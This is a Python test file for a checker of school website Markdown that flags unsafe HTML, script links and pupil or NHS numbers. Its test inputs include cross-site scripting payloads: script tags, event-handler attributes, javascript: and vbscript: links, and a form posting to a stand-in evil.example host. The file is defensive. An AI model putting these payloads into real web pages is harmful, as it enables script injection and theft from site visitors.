"""safety/raw-html, safety/html and safety/personal-data."""
from __future__ import annotations

import pytest

from localoffer.checks.safety import is_nhs_number

from .helpers import ERROR, WARNING, WELLBEING, add_to_answer, line_of, of_rule, where

RAW, HTML, PERSONAL = "safety/raw-html", "safety/html", "safety/personal-data"


def test_plain_markdown_has_no_safety_findings(check, primary: str) -> None:
    assert not [f for f in check(primary) if f.rule.startswith("safety/")]


@pytest.mark.parametrize("html", [
    "<script>alert('hello')</script>",
    '<iframe src="https://video.example/embed/1"></iframe>',
    '<object data="plan.pdf"></object>',
    '<embed src="plan.swf">',
    "<style>body { display: none }</style>",
    '<form action="https://evil.example"><input name="upn"><button>Send</button></form>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<svg viewBox="0 0 10 10"></svg>',
    "<SCRIPT SRC=https://evil.example/x.js>",
    "< script>alert(1)</script>",
    "<script",  # not even closed
])
def test_tags_that_could_run_code_are_errors(check, primary: str, html: str) -> None:
    text = add_to_answer(primary, WELLBEING, html)
    findings = check(text)
    assert where(findings, RAW)[0] == (line_of(text, html), ERROR)
    assert {f.line for f in of_rule(findings, RAW)} == {line_of(text, html)}
    assert of_rule(findings, HTML) == []


def test_each_dangerous_tag_is_reported(check, primary: str) -> None:
    html = '<form action="x"><input name="a"><button>Go</button></form>'
    messages = [f.message for f in of_rule(check(add_to_answer(primary, WELLBEING, html)), RAW)]
    assert len(messages) == 3
    assert {m.split(" tag")[0] for m in messages} == {"Remove the <form>", "Remove the <input>",
                                                      "Remove the <button>"}


@pytest.mark.parametrize("html", [
    '<a href="#" onclick="steal()">Open</a>',
    "<img src=x onerror=alert(1)>",
    '<div\n  onmouseover="steal()">Hover</div>',
    '<p ONLOAD = "x()">Hi</p>',
    # Unquoted values with quotes in them: not a tag to CommonMark, and nh3 removes them from
    # the page, but the school must still be told (security review, finding 9).
    "<img src=x onerror=alert('x')>",
    '<img src=x onerror=alert("x")>',
    "<a href=x onmouseover=steal('a')>Open</a>",
])
def test_event_handler_attributes_are_errors(check, primary: str, html: str) -> None:
    text = add_to_answer(primary, WELLBEING, html)
    findings = of_rule(check(text), RAW)
    assert [(f.line, f.severity) for f in findings] == [(line_of(text, html.split("\n")[0]), ERROR)]
    assert "attribute" in findings[0].message
    assert of_rule(check(text), HTML) == []


@pytest.mark.parametrize("link", [
    "[Open](javascript:alert(1))",
    "[Open](JavaScript:alert('x'))",
    "[Open]( javascript:void 0 )",
    "[Open](jav&#x61;script:alert(1))",
    "<javascript:alert(1)>",
    "[Open](vbscript:msgbox)",
    "![Logo](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    '<a href="javascript:alert(1)">Open</a>',
    '<a href=" java\tscript:alert(1)">Open</a>',
    '<img src="data:image/png;base64,AAAA">',
])
def test_javascript_vbscript_and_data_addresses_are_errors(check, primary: str, link: str) -> None:
    text = add_to_answer(primary, WELLBEING, link)
    findings = of_rule(check(text), RAW)
    assert [(f.line, f.severity) for f in findings] == [(line_of(text, link.split("\n")[0]), ERROR)]
    assert "address" in findings[0].message


def test_a_reference_definition_with_a_javascript_address_is_an_error(check, primary: str) -> None:
    text = add_to_answer(primary, WELLBEING, "[Open][bad]\n\n[bad]: javascript:alert(1)")
    # Reported where the link is used and where the address is written.
    assert where(check(text), RAW) == [(line_of(text, "[Open][bad]"), ERROR),
                                       (line_of(text, "[bad]: javascript"), ERROR)]


@pytest.mark.parametrize("html, tag", [
    ("Line one<br>line two", "br"), ('<abbr title="special educational needs">SEN</abbr>', "abbr"),
    ("<b>Bold</b>", "b"), ('<p align="center">Hi</p>', "p"), ("<BR/>", "br"),
])
def test_harmless_html_is_a_warning_to_use_markdown(check, primary: str, html: str, tag: str) -> None:
    text = add_to_answer(primary, WELLBEING, html)
    findings = of_rule(check(text), HTML)
    assert [(f.line, f.severity) for f in findings] == [(line_of(text, html), WARNING)]
    assert f"<{tag}>" in findings[0].message and "Markdown" in findings[0].message
    assert of_rule(check(text), RAW) == []


@pytest.mark.parametrize("text", [
    "Use `<script>` tags? No.",
    "```html\n<script>alert(1)</script>\n```",
    "    <iframe src=x></iframe>",
    "<!-- <script>guidance</script> -->",
    "Children aged < 5 and > 3, or a<b.",
    "Email <senco@oak.example> or see <https://oak.example>.",
    "Data: we keep it safe. The data: line is fine.",
    "Year <6 children.",
])
def test_html_shown_as_code_or_plain_text_is_fine(check, primary: str, text: str) -> None:
    findings = check(add_to_answer(primary, WELLBEING, text))
    assert of_rule(findings, RAW) == [] and of_rule(findings, HTML) == []


@pytest.mark.parametrize("number", ["A123456789012", "x123456789012",
                                    "A12345678901B",  # a temporary UPN ends with a letter
                                    "A123 4567 8901 2", "A 1234 5678 9012",
                                    "A 1234 5678 901B"])
def test_a_upn_is_an_error_that_never_repeats_the_number(check, primary: str, number: str) -> None:
    text = add_to_answer(primary, WELLBEING, f"Jo's UPN is {number}.")
    findings = of_rule(check(text), PERSONAL)
    assert [(f.line, f.severity) for f in findings] == [(line_of(text, number), ERROR)]
    assert "UPN" in findings[0].message and number not in findings[0].message


def test_a_upn_is_not_also_reported_as_jargon(check, primary: str) -> None:
    findings = check(add_to_answer(primary, WELLBEING, "Jo's UPN is A 1234 5678 901B."))
    assert len(of_rule(findings, PERSONAL)) == 1
    assert of_rule(findings, "plain-english/jargon") == []


@pytest.mark.parametrize("number", ["943 476 5919", "9434765919", "943-476-5919"])
def test_a_valid_nhs_number_is_an_error_that_never_repeats_it(check, primary: str, number: str) -> None:
    text = add_to_answer(primary, WELLBEING, f"NHS number: {number}")
    findings = of_rule(check(text), PERSONAL)
    assert [(f.line, f.severity) for f in findings] == [(line_of(text, number), ERROR)]
    assert "NHS number" in findings[0].message
    assert number not in findings[0].message and number.replace(" ", "")[:6] not in findings[0].message


def test_personal_data_in_a_comment_is_still_reported(check, primary: str) -> None:
    # Comments are not on the website, but the repository is public.
    text = add_to_answer(primary, WELLBEING, "<!-- for Jo, NHS 943 476 5919 -->")
    assert where(check(text), PERSONAL) == [(line_of(text, "943 476"), ERROR)]


@pytest.mark.parametrize("text", [
    "Call 943 476 5918.",  # fails the check digit
    "Call 0161 496 0000 or 01614960000.",
    "Call +44 161 496 0003.",  # 161 496 0003 passes the check digit, but follows +44
    "943 476 59190 and 1943 476 5919",  # not 10 digits
    "943 4765 919",  # grouped the wrong way
    "See https://oak.example/doc/9434765919 and A12345678901 and AB1234567890123.",
    "Room B 1234 5678 90 and flat A 12 34 56 78 9.",  # too few digits
    "Call 0161 496 0000 a day ahead, or T: 0161 496 0000.",
])
def test_numbers_that_are_not_upns_or_nhs_numbers_are_fine(check, primary: str, text: str) -> None:
    assert of_rule(check(add_to_answer(primary, WELLBEING, text)), PERSONAL) == []


def test_the_nhs_check_digit() -> None:
    assert is_nhs_number("9434765919")
    assert is_nhs_number("1614960003")
    assert not is_nhs_number("9434765918")
    assert not is_nhs_number("943476591")
    assert not is_nhs_number("٩٤٣٤٧٦٥٩١٩")  # digits, but not ASCII
    # A remainder giving check digit 10 is never valid.
    assert not any(is_nhs_number(f"000000006{d}") for d in "0123456789")
